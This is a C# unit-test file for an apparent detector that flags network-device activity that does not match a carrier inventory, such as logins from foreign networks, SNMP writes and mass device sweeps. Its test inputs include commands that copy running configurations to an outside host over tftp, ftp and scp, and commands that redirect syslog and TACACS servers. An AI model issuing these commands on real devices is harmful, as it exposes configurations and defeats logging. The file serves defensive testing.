using System.Globalization;
using System.Text;
using Breakwater.Detection.InventoryChecks;
using Breakwater.Detection.InventoryFiles;
using Breakwater.Detection.Tests.Support;
using Breakwater.Model.Events;
using Breakwater.Model.Findings;
using Breakwater.Model.Inventory;
using CsCheck;

namespace Breakwater.Detection.Tests.InventoryChecks;

public sealed class InventoryChecksDetectorTests
{
    private const string Yaml = """
        devices:
          - { name: edge1, aliases: [edge1.example.net], addresses: [10.1.9.1] }
          - { name: edge2, addresses: [10.1.9.2] }
        networks:
          management: [{ prefix: 10.1.0.0/16 }]
          customer: [{ prefix: 192.0.2.0/24 }]
          peer: [{ prefix: 198.51.100.0/24, valid_to: 2025-12-31 }]
        servers:
          aaa: [{ name: aaa1, addresses: [10.1.2.5] }]
          syslog: [{ name: log1, addresses: [10.1.2.6] }]
          snmp: [{ name: manager1, addresses: [10.1.2.7] }]
          backup: [{ name: store1, addresses: [10.1.2.9] }]
          jump_host: [{ name: jump1, addresses: [172.16.0.10] }]
        intercept:
          systems: [{ name: med1, kind: mdf2, addresses: [10.1.3.4] }]
        service_accounts:
          - { account: backup, sources: [10.1.2.9], commands: ["show *", exit] }
        people:
          - { accounts: [vendor7], sources: [203.0.113.7] }
        change_windows:
          - { from: 2026-03-02T22:00, to: 2026-03-03T02:00, devices: [edge2], ticket: CHG-9 }
        """;

    private static readonly CarrierInventory Inventory = Read(Yaml);

    [Theory]
    [InlineData("203.0.113.9", "inventory:login_outside_management", Level.Medium)]
    [InlineData("192.0.2.77", "inventory:login_from_foreign_network", Level.High)]
    [InlineData("10.1.9.2", "inventory:login_from_device", Level.Medium)]
    public void A_login_from_the_wrong_place_is_found(string from, string check, Level level)
    {
        Finding finding = Assert.Single(Run(Login("kim", "edge1", from)));

        Assert.Equal((check, level), (finding.Rule.Id, finding.Level));
        Assert.Contains(new Entity(EntityKind.Device, "edge1"), finding.Entities);
        Assert.Contains(new Entity(EntityKind.Account, "kim"), finding.Entities);
        Assert.Contains(new Entity(EntityKind.Address, from), finding.Entities);
        Assert.Equal(Disposition.Open, finding.Disposition);
    }

    [Theory]
    [InlineData("172.16.0.10", "10.1.9.1", "6", 1)]
    [InlineData("172.16.0.10", "10.1.9.1", "0", 0)]
    [InlineData("172.16.0.10", "10.1.9.1", "-", 0)]
    [InlineData("172.16.0.10", "10.1.8.8", "6", 0)]
    [InlineData("10.1.2.7", "10.1.9.1", "6", 0)]
    [InlineData("10.1.3.4", "10.1.9.1", "6", 0)]
    public void A_write_by_snmp_is_found_where_it_comes_from_no_manager(
        string from,
        string to,
        string writes,
        int found
    )
    {
        TestEvent exchange = new("2026-03-02T10:00:00Z", $"{from} {to} {writes}")
        {
            Dataset = "zeek.snmp",
            Fields =
            [
                (Fields.SourceIp, from),
                (Fields.DestinationIp, to),
                (DetectorRun.Names.Slot("set_requests"), writes),
            ],
        };

        IReadOnlyList<Finding> findings = Run(exchange);

        Assert.Equal(found, findings.Count);
        Assert.All(findings, f => Assert.Equal("inventory:snmp_write", f.Rule.Id));
        Assert.All(findings, f => Assert.Contains(new Entity(EntityKind.Device, "edge1"), f.Entities));
        Assert.Empty(Run(CarrierInventory.Empty, [exchange]));
    }

    [Theory]
    [InlineData("kim", "10.1.1.1")]
    [InlineData("kim", "172.16.0.10")]
    [InlineData("vendor7", "203.0.113.7")]
    [InlineData("kim", "127.0.0.1")]
    [InlineData("kim", "10.1.9.1")]
    [InlineData("backup", "10.1.2.9")]
    public void A_login_from_the_right_place_is_not(string account, string from) =>
        Assert.Empty(Run(Login(account, "edge1", from)));

    [Fact]
    public void A_refused_login_is_not_a_login() =>
        Assert.Empty(Run(Login("kim", "edge1", "203.0.113.9").With(Fields.EventOutcome, "failure")));

    [Fact]
    public void A_login_to_something_that_is_no_device_is_not_judged()
    {
        TestEvent server = Login("kim", "shop1", "203.0.113.9") with { Dataset = "linux.sshd" };

        Assert.Empty(Run(server));
        Assert.Single(Run(server with { Fields = [(Fields.HostName, "edge1.example.net"), .. server.Fields.Skip(1)] }));
    }

    [Fact]
    public void An_entry_counts_only_while_it_holds()
    {
        Assert.Equal(
            "inventory:login_from_foreign_network",
            Run(Login("kim", "edge1", "198.51.100.4", "2025-06-01T10:00:00Z"))[0].Rule.Id
        );
        Assert.Equal("inventory:login_outside_management", Run(Login("kim", "edge1", "198.51.100.4"))[0].Rule.Id);
    }

    [Fact]
    public void A_service_account_from_elsewhere_or_with_other_commands_is_found()
    {
        Assert.Equal(
            "inventory:service_account_source",
            Assert.Single(Run(Login("backup", "edge1", "10.1.1.1"))).Rule.Id
        );
        Assert.Empty(Run(Command("backup", "edge1", "show running-config")));
        Finding finding = Assert.Single(Run(Command("backup", "edge1", "configure terminal")));
        Assert.Equal("inventory:service_account_command", finding.Rule.Id);
        Assert.Equal(["T66"], finding.Behaviours);
    }

    [Theory]
    [InlineData("tacacs-server host 203.0.113.5 key 7 0000", "inventory:aaa_server")]
    [InlineData("set system tacplus-server 203.0.113.5 secret x", "inventory:aaa_server")]
    [InlineData("hwtacacs-server authentication 203.0.113.5", "inventory:aaa_server")]
    [InlineData("logging host 203.0.113.5 vrf mgmt", "inventory:log_server")]
    [InlineData("logging 203.0.113.5", "inventory:log_server")]
    [InlineData("set system syslog host 203.0.113.5 any any", "inventory:log_server")]
    [InlineData("info-center loghost 203.0.113.5", "inventory:log_server")]
    [InlineData("copy running-config tftp://203.0.113.5/edge1", "inventory:file_server")]
    [InlineData("copy flash:a.pcap ftp://u:p@203.0.113.5:2121/a", "inventory:file_server")]
    [InlineData("file copy /var/x scp://root@203.0.113.5/x", "inventory:file_server")]
    public void A_command_that_names_a_server_outside_the_inventory_is_found(string command, string check)
    {
        Finding finding = Assert.Single(Run(Command("kim", "edge1", command)));

        Assert.Equal(check, finding.Rule.Id);
        Assert.Contains("203.0.113.5", finding.Summary, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("tacacs-server host 10.1.2.5")]
    [InlineData("no tacacs-server host 203.0.113.5")]
    [InlineData("logging host 10.1.2.6")]
    [InlineData("logging source-interface Loopback0")]
    [InlineData("delete system syslog host 203.0.113.5")]
    [InlineData("copy running-config tftp://10.1.2.9/edge1")]
    [InlineData("show logging | include 203.0.113.5")]
    [InlineData("ping 203.0.113.5")]
    [InlineData("copy running-config startup-config")]
    public void A_command_that_names_a_server_of_the_inventory_or_none_is_not(string command) =>
        Assert.Empty(Run(Command("kim", "edge1", command)));

    [Fact]
    public void A_statement_of_a_configuration_is_judged_like_a_command()
    {
        TestEvent statement = TestEvent.On(
            "2026-03-02T10:00:00Z",
            "edge1",
            "UI_CFG_AUDIT_OTHER",
            (Fields.ConfigPath, "system tacplus-server 203.0.113.5")
        );

        Assert.Equal("inventory:aaa_server", Assert.Single(Run(statement)).Rule.Id);
        Assert.Empty(Run(statement.With(DetectorRun.Names.Slot("config.operation"), "delete")));
    }

    [Theory]
    [InlineData("config_change", "203.0.113.5", "inventory:snmp_manager", Level.High)]
    [InlineData("config_change", "10.1.9.2", "inventory:snmp_manager", Level.High)]
    [InlineData("snmp_authentication", "10.1.9.2", "inventory:snmp_from_device", Level.Medium)]
    public void Snmp_from_a_host_that_is_no_manager_is_found(string action, string from, string check, Level level)
    {
        Finding finding = Assert.Single(Run(Snmp(action, from)));

        Assert.Equal((check, level), (finding.Rule.Id, finding.Level));
        Assert.Equal(["T22"], finding.Behaviours);
        Assert.Equal(
            from == "10.1.9.2" ? ["edge1", "edge2"] : ["edge1"],
            finding.Entities.Where(e => e.Kind == EntityKind.Device).Select(e => e.Value)
        );
        Assert.Contains(from, finding.Summary, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("config_change", "10.1.2.7")]
    [InlineData("config_change", "10.1.2.9")]
    [InlineData("snmp_authentication", "203.0.113.5")]
    [InlineData("snmp_authentication", "10.1.9.1")]
    [InlineData("snmp_authentication", "10.1.2.7")]
    [InlineData("reboot", "203.0.113.5")]
    public void Snmp_from_a_manager_and_a_strangers_refused_request_are_not(string action, string from) =>
        Assert.Empty(Run(Snmp(action, from)));

    [Fact]
    public void Without_a_list_of_managers_only_a_device_is_the_wrong_one_to_configure_another()
    {
        CarrierInventory inventory = Read(Yaml.Replace("  snmp: [{ name: manager1, addresses: [10.1.2.7] }]\n", ""));

        Assert.Empty(Run(inventory, [Snmp("config_change", "203.0.113.5")]));
        Assert.Single(Run(inventory, [Snmp("config_change", "10.1.9.2")]));
    }

    [Fact]
    public void A_change_window_explains_and_does_not_hide()
    {
        Finding inside = Assert.Single(
            Run(Command("kim", "edge2", "logging host 203.0.113.5", "2026-03-02T23:00:00Z"))
        );
        Finding outside = Assert.Single(
            Run(Command("kim", "edge2", "logging host 203.0.113.5", "2026-03-03T02:00:00Z"))
        );
        Finding elsewhere = Assert.Single(
            Run(Command("kim", "edge1", "logging host 203.0.113.5", "2026-03-02T23:00:00Z"))
        );

        Assert.Equal(new Disposition(DispositionState.ExplainedBy, "change window CHG-9"), inside.Disposition);
        Assert.Equal(Disposition.Open, outside.Disposition);
        Assert.Equal(Disposition.Open, elsewhere.Disposition);
    }

    [Fact]
    public void Without_inventory_nothing_is_accused_and_every_gap_is_named()
    {
        InventoryChecksDetector detector = new(CarrierInventory.Empty, DetectorRun.Factory, DetectorRun.Names);

        Assert.Empty(
            DetectorRun.Of(
                detector,
                [Login("kim", "edge1", "203.0.113.9"), Command("kim", "edge1", "logging host 203.0.113.5")]
            )
        );
        Assert.Equal(9, detector.NotAssessable.Count);
        Assert.All(
            detector.NotAssessable,
            s => Assert.StartsWith("not assessable: no inventory of ", s, StringComparison.Ordinal)
        );
        Assert.Empty(new InventoryChecksDetector(Inventory, DetectorRun.Factory, DetectorRun.Names).NotAssessable);
    }

    [Theory]
    [InlineData(23, 35, 1)]
    [InlineData(9, 35, 0)]
    [InlineData(23, 600, 0)]
    public void One_account_on_many_devices_in_a_short_time_is_found(int devices, int minutes, int findings)
    {
        IReadOnlyList<Finding> found = Run(
            CarrierInventory.Empty,
            [.. Walk("kim", "10.9.9.9", "2026-03-02T02:00:00Z", devices, minutes)]
        );

        Assert.Equal(findings, found.Count);
        Assert.All(found, f => Assert.Equal("spread:many_devices", f.Rule.Id));
        Assert.All(found, f => Assert.Equal(devices, f.Entities.Count(e => e.Kind == EntityKind.Device)));
    }

    [Fact]
    public void A_nightly_backup_that_visits_every_device_is_routine() =>
        Assert.Empty(
            Run(
                CarrierInventory.Empty,
                [
                    .. Enumerable
                        .Range(2, 5)
                        .SelectMany(day => Walk("rancid", "10.9.9.9", $"2026-03-{day:00}T02:00:00Z", 40, 30)),
                ]
            )
        );

    [Fact]
    public void The_same_walk_from_a_jump_host_is_rated_lower() =>
        Assert.Equal(
            Level.Low,
            Assert.Single(Run([.. Walk("kim", "172.16.0.10", "2026-03-02T10:00:00Z", 23, 35)])).Level
        );

    [Fact]
    public void One_injected_login_gives_exactly_one_finding()
    {
        TestEvent[] benign =
        [
            .. Enumerable
                .Range(0, 300)
                .Select(i =>
                    Login(
                        $"user{i % 5}",
                        $"edge{i % 6}",
                        $"10.1.1.{i % 20}",
                        $"2026-03-{2 + (i % 9):00}T{i % 24:00}:00:00Z"
                    )
                ),
        ];

        Assert.Empty(Run(benign));
        Assert.Single(Run([.. benign, Login("user1", "edge2", "203.0.113.9")]));
    }

    [Fact]
    public void Any_order_and_any_number_of_workers_give_the_same_findings()
    {
        string[] sources = ["203.0.113.9", "192.0.2.77", "10.1.9.2", "10.1.1.1", "172.16.0.10"];
        Gen.Select(Gen.Int[0, 4], Gen.Int[0, 25], Gen.Int[0, 2], Gen.Int[0, 5_000], Gen.Int[0, 3])
            .Select(
                (source, device, user, minute, file) =>
                    Login(
                        $"user{user}",
                        $"edge{device}",
                        sources[source],
                        new DateTime(2026, 3, 2, 0, 0, 0, DateTimeKind.Utc)
                            .AddMinutes(minute)
                            .ToString("yyyy-MM-ddTHH:mm:ssZ", CultureInfo.InvariantCulture)
                    ) with
                    {
                        Path = $"{file}.log",
                    }
            )
            .Array[1, 300]
            .Sample(
                events =>
                {
                    string expected = Show(
                        DetectorRun.Of(
                            new InventoryChecksDetector(Inventory, DetectorRun.Factory, DetectorRun.Names),
                            events
                        )
                    );
                    return Enumerable
                        .Range(1, 3)
                        .All(seed =>
                            Show(
                                DetectorRun.Of(
                                    new InventoryChecksDetector(Inventory, DetectorRun.Factory, DetectorRun.Names),
                                    events,
                                    seed,
                                    seed,
                                    11
                                )
                            ) == expected
                        );
                },
                iter: 50,
                seed: "0000KzuVzQj1"
            );
    }

    private static string Show(IEnumerable<Finding> findings) => string.Join('\n', findings.Select(DetectorRun.Show));

    private static CarrierInventory Read(string yaml)
    {
        InventoryReading reading = InventoryReader.Read(Encoding.UTF8.GetBytes(yaml), "inventory.yaml");
        Assert.Empty(reading.Errors);
        return reading.Inventory!;
    }

    private static IReadOnlyList<Finding> Run(params TestEvent[] events) => Run(Inventory, events);

    private static IReadOnlyList<Finding> Run(CarrierInventory inventory, TestEvent[] events) =>
        DetectorRun.Of(new InventoryChecksDetector(inventory, DetectorRun.Factory, DetectorRun.Names), events);

    private static TestEvent Login(string account, string device, string from, string time = "2026-03-02T10:00:00Z") =>
        TestEvent.On(
            time,
            device,
            $"Login Success [user: {account}] [Source: {from}] {time}",
            (Fields.EventAction, "login"),
            (Fields.UserName, account),
            (Fields.SourceIp, from)
        );

    private static TestEvent Command(
        string account,
        string device,
        string command,
        string time = "2026-03-02T10:00:00Z"
    ) =>
        TestEvent.On(
            time,
            device,
            $"User:{account}  logged command:{command}",
            (Fields.EventAction, "command"),
            (Fields.UserName, account),
            (Fields.AaaCommand, command)
        );

    private static TestEvent Snmp(string action, string from) =>
        TestEvent.On(
            "2026-03-02T10:00:00Z",
            "edge1",
            $"{action} {from}",
            (Fields.EventAction, action),
            (Fields.NetworkProtocol, "snmp"),
            (Fields.SourceIp, from)
        );

    private static IEnumerable<TestEvent> Walk(string account, string from, string start, int devices, int minutes) =>
        Enumerable
            .Range(0, devices)
            .Select(i =>
                Login(
                    account,
                    $"edge{i}",
                    from,
                    DateTime
                        .Parse(start, CultureInfo.InvariantCulture, DateTimeStyles.AdjustToUniversal)
                        .AddMinutes(minutes * i / (double)devices)
                        .ToString("yyyy-MM-ddTHH:mm:ssZ", CultureInfo.InvariantCulture)
                )
            );
}
